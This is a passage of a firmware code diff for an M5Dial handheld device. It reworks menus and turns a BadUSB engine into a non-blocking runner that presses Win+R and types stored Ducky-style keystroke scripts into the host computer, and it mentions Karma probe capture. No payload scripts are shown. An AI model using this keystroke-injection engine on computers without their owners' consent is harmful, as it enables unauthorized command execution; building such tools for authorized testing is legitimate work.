-                    drawSettingsMenu(settingsIndex);
+                    requestRender();
                 }
             } else {
                 adjustingBrightness = false; 
@@ -1497,26 +4607,33 @@ void handleSettingsScreen(long newPosition) {
                         return;
                     case 3: // Verbose Debug
                         verboseDebug = !verboseDebug;
-                        if (preferences.begin("settings", false)) {
-                            preferences.putBool("verboseDebug", verboseDebug);
-                            preferences.end();
-                        }
-                        if (debugMode && verboseDebug) {
-                            Serial.println(verboseDebug ? "Verbose Debug Enabled" : "Verbose Debug Disabled");
-                        }
-                        drawSettingsMenu(settingsIndex);
+                        LOG_D("Verbose Debug Enabled");
+                        requestRender();
                         break;
-                    case 4: // Back
-                        currentScreen = MENU_SCREEN;
-                        drawMenu(currentIndex);
+                    case 4: // Boot Logo
+                        showSplash = !showSplash;
+                        requestRender();
+                        break;
+                    case 5: // Probe pcap, takes effect on the next Karma run
+                        pcapEnabled = !pcapEnabled;
+                        requestRender();
+                        break;
+                    case 6: // Log to File
+                        logToFile = !logToFile;
+                        requestRender();
+                        break;
+                    case 7: // Diagnostics
+                        switchScreen(DIAGNOSTICS_SCREEN);
+                        return;
+                    case 8: // Back
+                        switchScreen(MENU_SCREEN);
                         return;
                 }
             }
         } else {
             // Long press: return to main menu
             adjustingBrightness = false;
-            currentScreen = MENU_SCREEN;
-            drawMenu(currentIndex);
+            switchScreen(MENU_SCREEN);
         }
     }
 
@@ -1529,8 +4646,12 @@ void handleSettingsScreen(long newPosition) {
 void enterExecuteScriptScreen() {
     scriptCurrentFileIndex = 0;
     scriptOldPosition = -999;
+    scriptMessageUntil = 0;
 
     listTxtFiles(SPIFFS, "/");
+}
+
+void drawScriptScreen() {
     if (!scriptFileNames.empty()) {
         drawScriptMenu(scriptCurrentFileIndex);
     } else {
@@ -1542,10 +4663,19 @@ void enterExecuteScriptScreen() {
 }
 
 void handleExecuteScriptScreen() {
+    static unsigned long pressStartTime = 0;
+    static bool isBtnAPressed = false;
+
+    // Keep the "Script selected" message up for a moment before redrawing
+    if (scriptMessageUntil != 0) {
+        if ((long)(millis() - scriptMessageUntil) < 0) return;
+        scriptMessageUntil = 0;
+        requestRender();
+    }
+
     // Read the current encoder position and calculate the current selection index
     long newPosition = M5Dial.Encoder.read();
     int count = (int)scriptFileNames.size() + 1; // +1 for the "Back" option
-    int oldIndex = scriptCurrentFileIndex;
 
     // Handle encoder navigation
     if (abs(newPosition - scriptOldPosition) >= encoderMoveThreshold) {
@@ -1557,40 +4687,29 @@ void handleExecuteScriptScreen() {
         }
 
         // Redraw script menu with updated selection
-        drawScriptMenu(scriptCurrentFileIndex);
+        requestRender();
     }
 
-    // Check if the button has been long-pressed to return to the main menu
-    if (M5Dial.BtnA.pressedFor(1000)) {
-        currentScreen = MENU_SCREEN;
-        drawMenu(currentIndex);
-        return;
+    if (M5Dial.BtnA.wasPressed()) {
+        isBtnAPressed = true;
+        pressStartTime = millis();
     }
 
-    // Handle short press (selection)
-    if (M5Dial.BtnA.wasPressed()) {
-        unsigned long pressTime = millis();
-
-        // Wait until button is released or detect long press
-        while (!M5Dial.BtnA.wasReleased()) {
-            M5Dial.update();
-            if (M5Dial.BtnA.pressedFor(1000)) {
-                // Long press detected, return to the menu
-                currentScreen = MENU_SCREEN;
-                drawMenu(currentIndex);
-                return;
-            }
-            delay(10);
-        }
+    // Long press returns to the main menu without waiting for release
+    if (isBtnAPressed && M5Dial.BtnA.pressedFor(1000)) {
+        isBtnAPressed = false;
+        switchScreen(MENU_SCREEN);
+        return;
+    }
 
-        // Determine press duration to differentiate between short and long press
-        unsigned long pressDuration = millis() - pressTime;
+    if (isBtnAPressed && M5Dial.BtnA.wasReleased()) {
+        unsigned long pressDuration = millis() - pressStartTime;
+        isBtnAPressed = false;
         if (pressDuration < 1000) {
             // Short press: either select a script or go back
             if (scriptCurrentFileIndex == (int)scriptFileNames.size()) {
                 // "Back" selected
-                currentScreen = MENU_SCREEN;
-                drawMenu(currentIndex);
+                switchScreen(MENU_SCREEN);
                 return;
             }
 
@@ -1604,11 +4723,11 @@ void handleExecuteScriptScreen() {
             M5Dial.Display.setTextColor(TFT_WHITE);
 
             if (!debugMode) {
-                // HID mode: Store script for next power-on execution
-                if (preferences.begin("settings", false)) {
-                    preferences.putString("pendingFile", "/" + selectedFile);
-                    preferences.end();
-                }
+                // HID mode: Store script for next power-on execution. The
+                // device may be unplugged right away, so don't wait for the
+                // debounced commit.
+                pendingFile = "/" + selectedFile;
+                commitSettings();
 
                 // Show confirmation message
                 String msg1 = "Script selected:";
@@ -1623,9 +4742,12 @@ void handleExecuteScriptScreen() {
                 String msg2 = selectedFile;
                 centerText(msg2, -20);
                 String pathToFile = "/" + selectedFile;
-                readFileToSerial(SPIFFS, pathToFile.c_str());
-                delay(2000);
-                drawScriptMenu(scriptCurrentFileIndex);
+                if (SPIFFS.exists(pathToFile)) {
+                    requestFileDump(pathToFile.c_str());
+                } else {
+                    M5Dial.Display.drawString("Failed to Open", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
+                }
+                scriptMessageUntil = millis() + 2000;
             }
         }
     }
@@ -1635,7 +4757,7 @@ void listTxtFiles(fs::FS &fs, const char *dirname) {
     scriptFileNames.clear();
     File root = fs.open(dirname);
     if (!root || !root.isDirectory()) {
-        if (debugMode && verboseDebug) Serial.println("Failed to open directory for txt files");
+        LOG_W("Failed to open directory for txt files");
         return;
     }
     File file = root.openNextFile();
@@ -1646,9 +4768,7 @@ void listTxtFiles(fs::FS &fs, const char *dirname) {
                 fileName = fileName.substring(1);
             }
             scriptFileNames.push_back(fileName);
-            if (debugMode && verboseDebug) {
-                Serial.printf("Found .txt file: %s\n", fileName.c_str());
-            }
+            LOG_D("Found .txt file: %s", fileName.c_str());
         }
         file.close();
         file = root.openNextFile();
@@ -1657,94 +4777,135 @@ void listTxtFiles(fs::FS &fs, const char *dirname) {
 
 void drawScriptMenu(int index) {
     int count = (int)scriptFileNames.size() + 1; // +1 for Back
-    const char** items = new const char*[count];
+    const char** items = frameArena.allocArray<const char*>(count);
+    if (!items) return;
     for (size_t i = 0; i < scriptFileNames.size(); i++) {
         items[i] = scriptFileNames[i].c_str();
     }
     items[count - 1] = "Back";
 
     drawListMenu(items, count, index, TFT_ORANGE, WHITE, TFT_ORANGE);
-    delete[] items;
 }
 
-void readFileToSerial(fs::FS &fs, const char *path) {
-    File file = fs.open(path);
+// Runs on the log task, which owns Serial output
+void writeFileToSerial(const char* path) {
+    File file = SPIFFS.open(path);
     if (!file) {
-        M5Dial.Display.drawString("Failed to Open", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
-        if (debugMode && verboseDebug) {
-            Serial.println("Failed to open script file for reading");
-        }
+        LOG_W("Failed to open script file for reading");
         return;
     }
-    while (file.available()) {
-        char c = file.read();
-        Serial.write(c);
+    uint8_t buffer[128];
+    while (size_t length = file.read(buffer, sizeof(buffer))) {
+        Serial.write(buffer, length);
     }
     file.close();
     Serial.println("\nFile read completed.");
 }
 
-void executeKeystrokes(const char *filename) {
-    File file = SPIFFS.open(filename, "r");
-    if (!file) {
+void executeKeystrokes(const char *filename, unsigned long startDelay) {
+    if (keystrokes.active) {
+        keystrokes.file.close();
+    }
+    keystrokes.file = SPIFFS.open(filename, "r");
+    if (!keystrokes.file) {
+        keystrokes.active = false;
         M5Dial.Display.drawString("Failed to Execute", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
-        if (debugMode && verboseDebug) Serial.println("Failed to open script file for BadUSB execution");
+        LOG_E("Failed to open script file for BadUSB execution");
         return;
     }
 
-    Keyboard.press(KEY_LEFT_GUI);
-    Keyboard.write('r');
-    Keyboard.releaseAll();
+    keystrokes.active = true;
+    keystrokes.started = false;
+    keystrokes.clearPendingFile = false;
+    keystrokes.resumeAt = millis() + startDelay;
+    keystrokes.text = "";
+    keystrokes.textPos = 0;
+}
+
+void finishKeystrokes() {
+    keystrokes.file.close();
+    keystrokes.active = false;
+    if (keystrokes.clearPendingFile) {
+        pendingFile = "";
+        commitSettings();
+    }
+    M5Dial.Display.drawString("Execution Done", M5Dial.Display.width() / 2, (M5Dial.Display.height() / 2) + 40);
+    LOG_D("BadUSB Execution completed");
+}
 
-    // Wait 3 seconds after Win+R
-    delay(3000);
+// Runs one keystroke step, then parks the runner until resumeAt. The delays
+// match the old blocking executor: 10ms per typed character, 20ms after a
+// special key and 50ms after every line.
+bool runKeystrokes(uint32_t deadlineUs) {
+    if (!keystrokes.active || (long)(millis() - keystrokes.resumeAt) < 0) return false;
+
+    if (!keystrokes.started) {
+        Keyboard.press(KEY_LEFT_GUI);
+        Keyboard.write('r');
+        Keyboard.releaseAll();
+        keystrokes.started = true;
+        // Wait 3 seconds after Win+R
+        keystrokes.resumeAt = millis() + 3000;
+        return true;
+    }
 
-    while (file.available()) {
-        String line = file.readStringUntil('\n');
-        line.trim();
-        if (line.startsWith("DELAY")) {
-            int delayTime = line.substring(6).toInt();
-            delay(delayTime);
-        } else if (line.startsWith("STRING")) {
-            String text = line.substring(7);
-            for (int i = 0; i < (int)text.length(); i++) {
-                Keyboard.write(text[i]);
-                delay(10);
-            }
-        } else if (line.equals("ENTER")) {
-            Keyboard.write(KEY_RETURN);
-            delay(20);
-        } else if (line.equals("TAB")) {
-            Keyboard.write(KEY_TAB);
-            delay(20);
-        } else if (line.equals("ESC")) {
-            Keyboard.write(KEY_ESC);
-            delay(20);
-        } else if (line.startsWith("CTRL")) {
-            int spaceIndex = line.indexOf(' ');
-            if (spaceIndex != -1 && spaceIndex + 1 < (int)line.length()) {
-                char key = line.charAt(spaceIndex + 1);
-                Keyboard.press(KEY_LEFT_CTRL);
-                Keyboard.write(key);
-                Keyboard.releaseAll();
-                delay(20);
-            }
-        } else if (line.startsWith("ALT")) {
-            int spaceIndex = line.indexOf(' ');
-            if (spaceIndex != -1 && spaceIndex + 1 < (int)line.length()) {
-                char key = line.charAt(spaceIndex + 1);
-                Keyboard.press(KEY_LEFT_ALT);
-                Keyboard.write(key);
-                Keyboard.releaseAll();
-                delay(20);
-            }
+    if (keystrokes.textPos < (int)keystrokes.text.length()) {
+        Keyboard.write(keystrokes.text[keystrokes.textPos++]);
+        keystrokes.resumeAt = millis() + 10;
+        if (keystrokes.textPos == (int)keystrokes.text.length()) {
+            keystrokes.text = "";
+            keystrokes.textPos = 0;
+            keystrokes.resumeAt += 50;
         }
-        // after each line
-        delay(50);
+        return true;
     }
-    file.close();
-    M5Dial.Display.drawString("Execution Done", M5Dial.Display.width() / 2, M5Dial.Display.height() / 2);
-    if (debugMode && verboseDebug) {
-        Serial.println("BadUSB Execution completed");
+
+    if (!keystrokes.file.available()) {
+        finishKeystrokes();
+        return true;
+    }
+
+    String line = keystrokes.file.readStringUntil('\n');
+    line.trim();
+    unsigned long stepDelay = 0;
+    if (line.startsWith("DELAY")) {
+        stepDelay = line.substring(6).toInt();
+    } else if (line.startsWith("STRING")) {
+        keystrokes.text = line.substring(7);
+        keystrokes.textPos = 0;
+        if (keystrokes.text.length() > 0) {
+            keystrokes.resumeAt = millis();
+            return true;
+        }
+    } else if (line.equals("ENTER")) {
+        Keyboard.write(KEY_RETURN);
+        stepDelay = 20;
+    } else if (line.equals("TAB")) {
+        Keyboard.write(KEY_TAB);
+        stepDelay = 20;
+    } else if (line.equals("ESC")) {
+        Keyboard.write(KEY_ESC);
+        stepDelay = 20;
+    } else if (line.startsWith("CTRL")) {
+        int spaceIndex = line.indexOf(' ');
+        if (spaceIndex != -1 && spaceIndex + 1 < (int)line.length()) {
+            char key = line.charAt(spaceIndex + 1);
+            Keyboard.press(KEY_LEFT_CTRL);
+            Keyboard.write(key);
+            Keyboard.releaseAll();
+            stepDelay = 20;
+        }
+    } else if (line.startsWith("ALT")) {
+        int spaceIndex = line.indexOf(' ');
+        if (spaceIndex != -1 && spaceIndex + 1 < (int)line.length()) {
+            char key = line.charAt(spaceIndex + 1);
+            Keyboard.press(KEY_LEFT_ALT);
+            Keyboard.write(key);
+            Keyboard.releaseAll();
+            stepDelay = 20;
+        }
     }
+    // after each line
+    keystrokes.resumeAt = millis() + stepDelay + 50;
+    return true;
 }